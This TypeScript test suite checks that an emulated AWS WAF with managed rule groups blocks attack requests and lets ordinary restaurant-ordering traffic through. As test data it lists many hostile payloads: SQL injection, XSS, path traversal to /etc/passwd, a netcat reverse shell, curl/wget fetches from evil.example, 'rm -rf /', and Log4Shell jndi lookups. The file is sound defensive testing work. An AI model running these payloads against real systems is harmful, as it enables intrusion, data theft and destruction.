import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import * as sdk from '@aws-sdk/client-wafv2';
import { refusal, TestFirewall, type ViewOptions } from './wafv2-for-tests.ts';

const groups = [
  'CommonRuleSet',
  'KnownBadInputsRuleSet',
  'SQLiRuleSet',
  'LinuxRuleSet',
  'UnixRuleSet',
  'PHPRuleSet',
  'WindowsRuleSet',
  'AmazonIpReputationList',
];

type Asked = [url: string, options?: ViewOptions];

const form = (fields: Record<string, string>): ViewOptions => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
});

const json = (value: unknown): ViewOptions => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(value),
});

const query = (value: string): Asked => [`/menu?q=${encodeURIComponent(value)}`];

const attacks: Record<string, Asked[]> = {
  'SQL injection': [
    ...[
      "1' OR '1'='1",
      "' or 1=1--",
      "admin'--",
      "admin' #",
      '1 OR 1=1',
      '1) or (1=1',
      "' UNION SELECT username, password FROM users--",
      '1 union all select null,null,null',
      "1'/**/UNION/**/SELECT/**/1,2,3#",
      "1'; DROP TABLE orders; --",
      "x'; insert into users (name) values ('me');--",
      '1; update users set admin=1',
      "1' AND SLEEP(5)--",
      "1' and (select count(*) from information_schema.tables) > 0--",
      "'||(select password from users limit 1)||'",
      "1'; WAITFOR DELAY '0:0:5'--",
      "' OR username LIKE '%admin%",
      '" or ""="',
      "1' order by 10--",
      "-1' /*!50000union*/ select 1,version()--",
      "1' and extractvalue(1,concat(0x7e,version()))-- -",
      "'; exec xp_cmdshell('dir')--",
      '1 and ascii(substring((select password from users),1,1))>64',
    ].map(query),
    ['/login', form({ user: "admin' OR '1'='1", password: 'x' })],
    ['/api/orders', json({ items: [{ id: "1' UNION SELECT 1,2,3--" }] })],
    ['/', { headers: { cookie: `session=${encodeURIComponent("x' or 'a'='a")}` } }],
  ],
  XSS: [
    ...[
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg/onload=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '" onmouseover="alert(1)',
      '<iframe src="//evil.example">',
      '<body onload=alert(1)>',
      'jAvAsCrIpT:alert(1)',
      '<math><mi xlink:href="data:text/html,x">',
      "';alert(1)//",
      '<details open ontoggle=alert(1)>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    ].map(query),
    ['/api/orders', json({ note: '<script src=//evil.example/x.js></script>' })],
  ],
  'path traversal': [
    ...[
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '....//....//etc/passwd',
      '/etc/passwd',
      'php://filter/convert.base64-encode/resource=index',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      'http://10.0.0.1/shell.txt',
      '/proc/self/environ',
    ].map(query),
    ['/static/..%2f..%2f..%2fetc/passwd'],
    ['/backup.sql'],
    ['/wp-config.bak'],
  ],
  'command injection': [
    ...[
      '; cat /etc/passwd',
      '| nc -e /bin/sh 10.1.1.1 4444',
      '$(curl http://evil.example/x)',
      '`whoami`',
      '&& rm -rf /',
      '; ping -c 10 127.0.0.1',
      '127.0.0.1;id',
      '() { :; }; /bin/bash -c id',
      '; powershell -enc aQBkAA==',
      '<?php system("id"); ?>',
    ].map(query),
    ['/api/contact', form({ name: 'x; wget http://evil.example/a.sh' })],
  ],
  'known bad inputs': [
    ['/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
    ['/', { headers: { 'user-agent': '${${lower:j}ndi:ldap://evil.example/a}' } }],
    query('${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}'),
    ['/', { method: 'PROPFIND' }],
    ['/.git/config'],
    ['/cgi-bin/test'],
    ['/actuator/env'],
    ['/', { headers: { host: 'localhost' } }],
    ['/x', { method: 'POST', body: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }],
    query('http://169.254.169.254/latest/meta-data/iam'),
    ['/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  ],
  'bad bots': [
    ['/', { headers: { 'user-agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }],
    ['/', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0)' } }],
    ['/', { headers: { 'user-agent': 'Nmap Scripting Engine' } }],
    ['/', { headers: { 'user-agent': '' } }],
  ],
};

const notes = [
  "O'Brien",
  "D'Angelo and O'Neil",
  'Please select the ripest tomatoes, and drop by table 4',
  "We'll drop by at 7; update us if the order changes",
  "Don't insert onions into the salad; delete from my order the olives",
  "It's for the boys' table -- number 7",
  "rock 'n' roll & fish 'n' chips",
  "the parents' and 2 kids' menus",
  'Order by 5pm, group of 4, having dinner at 8 or 9',
  'Union Street 5, 2nd floor (select bell 3)',
  "the workers' union select committee meets there",
  'see https://www.example.com/menu?id=5&lang=en#top',
  "mail me at ann.o'hara@example.com",
  'half & half; no salt, 1/2 portion = 2 plates',
  '2 + 2 = 4 dishes, 100% vegan <3',
  'I ordered 3 < 5 plates > 2',
  'soup or salad? 1 or 2?',
  'fish & cat food; no ls please',
  '"The Chef\'s special" -- medium rare',
  'allergies: nuts, milk; order: soup',
  'Crème brûlée, jalapeños, 寿司',
  "c'est l'été, j'aime l'onglet à l'échalote",
  'on load of plates: careful; onion = none',
  'a shampoo and 2 in 1 conditioner',
  'script for the evening: <b>birthday</b>',
  'Set the table for two where the sun is',
  "where's the menu from Tuesday's like button?",
  'Between 6 and 7, in the back; is that ok?',
  'Delete my last order; create a table for 4',
  '#1 fan of the chef',
  "kids' #1 choice",
];

describe('managed rule groups', () => {
  let firewall: TestFirewall;
  let view: Awaited<ReturnType<TestFirewall['site']>>['view'];
  const managed = (Name: string, change: Partial<sdk.ManagedRuleGroupStatement> = {}): sdk.Rule =>
    firewall.group(Name, {
      ManagedRuleGroupStatement: { VendorName: 'AWS', Name: `AWSManagedRules${Name}`, ...change },
    });

  before(async () => {
    firewall = await TestFirewall.start();
    ({ view } = await firewall.site(groups.map((name) => managed(name))));
  });
  after(() => firewall.orrery.stop());

  for (const [kind, requests] of Object.entries(attacks)) {
    test(`${kind} is blocked`, async () => {
      const passed: string[] = [];
      for (const [url, options] of requests)
        if ((await view(url, options)).status !== 403)
          passed.push(`${decodeURIComponent(url)} ${JSON.stringify(options ?? {})}`);
      assert.deepEqual(passed, []);
    });
  }

  test('a day of browsing and ordering is not blocked', async () => {
    const requests: Asked[] = [
      ['/'],
      ['/index.html'],
      ['/menu?page=2&sort=price&lang=en'],
      ['/static/js/app.3f2a1b.js'],
      ['/images/cr%C3%A8me-br%C3%BBl%C3%A9e.webp?w=320'],
      ['/api/orders?from=2026-03-01T00:00:00Z&to=2026-03-02T00:00:00%2B01:00'],
      ['/api/reservations', json({ table: 4, people: 2, at: '2026-03-01T19:00:00+01:00', name: "Zoë O'Brien" })],
      [
        '/',
        {
          headers: {
            cookie: 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln; theme=dark; cart={"soup":2,"salad":1}',
          },
        },
      ],
      [
        '/',
        {
          headers: {
            referer: 'https://www.example.com/search?q=best+restaurant&hl=en',
            'accept-language': 'fr-CH, fr;q=0.9, en;q=0.8, *;q=0.5',
          },
        },
      ],
      [
        '/menu',
        {
          headers: {
            'user-agent':
              'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1',
            'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24"',
          },
        },
      ],
      ['/api/orders/550e8400-e29b-41d4-a716-446655440000', { method: 'DELETE' }],
      [
        '/pages/about',
        json({
          markdown:
            '# About us\n\nWe cook -- since 1987 -- for *you*.\n\n- soup; salad\n- [map](https://maps.example.com/?q=46.2,6.1)\n',
        }),
      ],
    ];
    for (const note of notes) {
      requests.push(['/api/orders', json({ items: [{ id: 'soup', quantity: 2 }], name: "Ann O'Brien", note })]);
      requests.push(['/orders', form({ name: "O'Brien", note, phone: '+41 22 123 45 67' })]);
      requests.push([`/search?q=${encodeURIComponent(note)}`]);
    }
    const blocked: string[] = [];
    let rule: unknown;
    const ended = firewall.orrery.kernel.events.on('hop', ({ service, notes }) => {
      if (service === 'wafv2') rule = notes.rule;
    });
    for (const [url, options] of requests) {
      if ((await view(url, options)).status === 200) continue;
      blocked.push(`${decodeURIComponent(url)} ${options?.body ?? ''} by ${rule}`);
    }
    ended();
    assert.deepEqual(blocked, []);
  });

  test('are described with the names, labels and capacity of AWS', async () => {
    const { ManagedRuleGroups = [] } = await firewall.client.send(
      new sdk.ListAvailableManagedRuleGroupsCommand({ Scope: 'CLOUDFRONT' }),
    );
    assert.ok(ManagedRuleGroups.some(({ Name }) => Name === 'AWSManagedRulesAdminProtectionRuleSet'));
    const described = await firewall.client.send(
      new sdk.DescribeManagedRuleGroupCommand({
        VendorName: 'AWS',
        Name: 'AWSManagedRulesCommonRuleSet',
        Scope: 'CLOUDFRONT',
      }),
    );
    assert.equal(described.Capacity, 700);
    assert.equal(described.LabelNamespace, 'awswaf:managed:aws:core-rule-set:');
    assert.ok(described.Rules?.some(({ Name, Action }) => Name === 'CrossSiteScripting_BODY' && Action?.Block));
    await assert.rejects(firewall.acl([managed('BotControlRuleSet')]), refusal('NotImplemented', /BotControl/));
    await assert.rejects(firewall.acl([managed('Nothing')]), refusal('WAFInvalidParameterException'));
  });

  test('give labels that later rules match, and their rules can be made to count', async () => {
    const Key = 'awswaf:managed:aws:core-rule-set:NoUserAgent_Header';
    const override = { RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }] };
    const counting = await firewall.site([managed('CommonRuleSet', override)]);
    assert.equal((await counting.view('/', { headers: { 'user-agent': '' } })).status, 200);
    const labelled = await firewall.site([
      managed('CommonRuleSet', override),
      firewall.rule(
        'label',
        { LabelMatchStatement: { Scope: 'LABEL', Key } },
        { Block: { CustomResponse: { ResponseCode: 401 } } },
      ),
    ]);
    assert.equal((await labelled.view('/', { headers: { 'user-agent': '' } })).status, 401);
    const whole = await firewall.site([{ ...managed('CommonRuleSet'), OverrideAction: { Count: {} } }]);
    assert.equal((await whole.view('/?q=<script>')).status, 200);
    const scoped = await firewall.site([
      managed('CommonRuleSet', { ScopeDownStatement: { LabelMatchStatement: { Scope: 'LABEL', Key: 'never' } } }),
    ]);
    assert.equal((await scoped.view('/?q=<script>')).status, 200);
  });
});
